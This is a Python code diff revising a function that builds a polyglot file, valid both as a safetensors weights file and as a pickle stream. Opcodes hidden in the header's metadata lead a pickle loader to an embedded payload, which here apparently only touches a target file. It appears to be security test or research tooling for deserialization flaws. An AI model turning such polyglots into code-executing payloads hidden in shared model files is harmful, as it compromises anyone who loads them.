@@ -118,15 +118,16 @@ def catboost_and_pickle(target: object) -> bytes:
 
 def safetensors_and_pickle(target: object) -> bytes:
     """The header's length begins with the opcode of a constant; more of them lead through the header to the numbers."""
-    skipped = 40
-    length = 0x42 + (skipped << 8)
     head, tail = '{"__metadata__":{"a":"', '"},"w":{"dtype":"U8","shape":[400],"data_offsets":[0,400]}}'
-    header = bytearray((head + "x" * (length - len(head) - len(tail)) + tail).encode())
-    at = 5 + skipped
-    while at < 8 + length:
-        header[at - 8 : at - 6] = b"C~"
-        at += 128
-    data = b"\0" * (at - 8 - length) + touch(target) + b"N."
+    for skipped in range(40, 104):  # until the last one lies in the text, not behind it
+        length = 0x42 + (skipped << 8)
+        header = bytearray((head + "x" * (length - len(head) - len(tail)) + tail).encode())
+        places = range(5 + skipped, 8 + length, 128)
+        if places[-1] - 8 + 2 <= length - len(tail):
+            break
+    for place in places:
+        header[place - 8 : place - 6] = b"C~"
+    data = b"\0" * (places[-1] + 128 - 8 - length) + touch(target) + b"N."
     return struct.pack("<Q", length) + bytes(header) + data.ljust(400, b"\0")
 
 
